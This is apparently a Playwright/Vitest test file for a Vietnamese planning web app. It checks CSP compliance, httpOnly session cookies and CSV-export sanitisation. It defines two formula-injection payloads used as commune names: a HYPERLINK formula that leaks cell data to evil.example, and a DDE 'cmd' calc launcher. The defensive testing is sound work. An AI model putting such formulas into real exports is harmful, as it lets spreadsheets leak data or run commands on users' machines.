/**
 * Browser hardening in real Chromium (issue #11, classes 5 and 6): the strict CSP the server sends
 * is one the SPA lives with — login, home, a plan, the dashboard with its lazy chart and the
 * GraphQL playground (Monaco and its workers) load with zero violations — the session is an
 * httpOnly, SameSite=Strict cookie with nothing but the locale in localStorage, and the
 * dashboard's CSV download carries no live formula.
 */
import fs from 'node:fs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { describeInBrowser, POLL, sessionCookieOf, signIn, startRig, type BrowserRig } from '../support/browser';

let rig: BrowserRig;
let base: string;
const ids = { plan: '', indicator: '', district: '' };

/** Names a tester gave two communes: live formulas if a CSV writes them raw. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Buôn Trấp")';
const CALC = "=cmd|' /C calc'!A0";

beforeAll(async () => {
  rig = await startRig('demo');
  base = rig.server.url;
  const token = await rig.server.login('tinh.daklak');
  const res = await rig.server.gql<{ plans: { id: string; year: number }[]; indicators: { id: string; code: string }[]; unit: { id: string } }>(
    '{ plans(year: 2022) { id year } indicators { id code } unit(code: "655") { id } }',
    {},
    token,
  );
  expect(res.errors).toBeUndefined();
  ids.plan = res.data!.plans.find((p) => p.year === 2022)!.id;
  ids.indicator = res.data!.indicators.find((i) => i.code === 'DLK22-ONLINE-RATE')!.id;
  ids.district = res.data!.unit.id;
  // As the tester did: two communes renamed with formula payloads (straight in the database,
  // where any name may end up — an import of the national register, an old row).
  await rig.server.ds.query('UPDATE unit SET name = ? WHERE name = ?', [HYPERLINK, 'Thị trấn Buôn Trấp']);
  await rig.server.ds.query('UPDATE unit SET name = ? WHERE name = ?', [CALC, 'Xã Ea Na']);
});
afterAll(async () => rig?.close());

describeInBrowser('browser hardening', () => {
  let page: Page;
  let context: BrowserContext;
  /** CSP violations seen by the page (its `securitypolicyviolation` events) or reported on the console. */
  const violations: string[] = [];

  beforeAll(async () => {
    ({ context, page } = await rig.newPage());
    await context.addInitScript(
      "document.addEventListener('securitypolicyviolation', (e) => console.error('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sourceFile || '') + ':' + e.lineNumber))",
    );
    const watch = (text: string) => {
      if (/Content Security Policy|CSP violation/i.test(text)) violations.push(text);
    };
    page.on('console', (m) => watch(m.text()));
    page.on('worker', (w) => w.on('console', (m) => watch(m.text())));
  });
  afterAll(async () => context?.close());

  it('serves an SPA shell without inline scripts', async () => {
    const html = await (await fetch(`${base}/`)).text();
    expect(html).toContain('<div id="root">');
    expect(html.match(/<script\b[^>]*>/g)?.every((tag) => /\bsrc=/.test(tag))).toBe(true);
    expect(html).not.toMatch(/\son\w+=/i);
  });

  it('the login page loads with no CSP violation, and an old token left in localStorage is removed', async () => {
    await page.goto(`${base}/login`);
    await page.evaluate("localStorage.setItem('chitieu.token', 'left-by-an-old-version')");
    await page.reload();
    await page.getByRole('button', { name: 'Đăng nhập' }).waitFor();
    await expect.poll(() => page.evaluate("localStorage.getItem('chitieu.token')"), POLL).toBeNull();
    expect(violations).toEqual([]);
  });

  it('signing in sets an httpOnly, SameSite=Strict session cookie, and stores nothing but the locale', async () => {
    await signIn(page, base, 'tinh.daklak');
    await page.getByRole('menuitem', { name: 'Trang chủ' }).waitFor();
    const cookie = await sessionCookieOf(page);
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', secure: false, path: '/' });
    expect(cookie!.value.length).toBeGreaterThan(20);
    // Script cannot read it.
    expect(await page.evaluate('document.cookie')).not.toContain('chitieu_session');
    const keys = (await page.evaluate('Object.keys(localStorage)')) as string[];
    expect(keys.filter((k) => k !== 'chitieu.locale')).toEqual([]);
    const values = (await page.evaluate('Object.values(localStorage).join(" ")')) as string;
    expect(values).not.toContain(cookie!.value);
    expect(violations).toEqual([]);
  });

  it('a plan page loads with no CSP violation', async () => {
    await page.goto(`${base}/plans/${ids.plan}`);
    await page.getByText('Về việc giao chỉ tiêu số hóa', { exact: false }).first().waitFor();
    expect(violations).toEqual([]);
  });

  it('the dashboard and its lazy chart load with no CSP violation; its CSV has no live formula', async () => {
    const query = new URLSearchParams({ planId: ids.plan, indicatorId: ids.indicator, unitId: ids.district, period: '2022' });
    await page.goto(`${base}/progress?${query}`);
    await expect.poll(() => page.locator('.ant-table-tbody tr.ant-table-row').count(), POLL).toBe(9);
    await page.getByText('Kết quả các đơn vị trực thuộc so với chỉ tiêu').waitFor();
    // The chart (G2, its own chunk) has drawn.
    await page.locator('.ant-card', { hasText: 'Kết quả các đơn vị trực thuộc so với chỉ tiêu' }).locator('canvas, svg').first().waitFor();

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất CSV' }).click()]);
    const lines = fs
      .readFileSync((await download.path())!, 'utf8')
      .slice(1)
      .trimEnd()
      .split('\r\n');
    const hyperlink = lines.find((l) => l.includes('HYPERLINK'));
    const calc = lines.find((l) => l.includes('calc'));
    // Each starts as a quoted text cell with a leading quote: Excel shows it, never runs it.
    expect(hyperlink).toBeDefined();
    expect(hyperlink!.startsWith(`"'${HYPERLINK.replace(/"/g, '""')}";`)).toBe(true);
    expect(calc!.startsWith(`"'${CALC}";`)).toBe(true);
    // No cell of the file starts a formula: every field is read as Excel does (quotes removed).
    for (const line of lines) {
      const cells = line.match(/("(?:[^"]|"")*"|[^;]*)(;|$)/g)!.map((c) =>
        c
          .replace(/;$/, '')
          .replace(/^"(.*)"$/s, '$1')
          .replace(/""/g, '"'),
      );
      for (const cell of cells) expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d+(,\d+)?$)/.test(cell), `${line} → ${cell}`).toBe(false);
    }
    expect(violations).toEqual([]);
  });

  it('the GraphQL playground (Monaco and its workers) loads and runs a query with no CSP violation', async () => {
    await page.getByRole('menuitem', { name: 'GraphQL' }).click();
    await page.waitForURL(`${base}/playground`);
    await page.locator('.graphiql-container .graphiql-editor').first().waitFor();
    await page.getByText('query Plans($year: Int)').first().waitFor();
    await page.locator('.graphiql-execute-button').click();
    const response = async () => (await page.locator('.graphiql-response').innerText()).replace(/\u00a0/g, ' ');
    await expect.poll(response, POLL).toContain('"plans"');
    // Monaco's workers (files of /assets, worker-src 'self') are running.
    await expect.poll(() => page.workers().map((w) => new URL(w.url()).origin), POLL).toContain(base);
    expect(violations).toEqual([]);
    expect(rig.pageErrors).toEqual([]);
  });

  it('the watch above does see a violation (an inline script is refused)', async () => {
    await page.evaluate("const s = document.createElement('script'); s.textContent = 'window.injected = 1'; document.head.appendChild(s)");
    await expect.poll(() => violations.length, POLL).toBeGreaterThan(0);
    expect(await page.evaluate('window.injected')).toBeUndefined();
    violations.length = 0;
  });

  it('signing out clears the cookie', async () => {
    await page.getByRole('button', { name: /Đăng xuất/ }).click();
    await page.waitForURL(/\/login/);
    await expect.poll(() => sessionCookieOf(page), POLL).toBeNull();
    expect(violations).toEqual([]);
  });
});
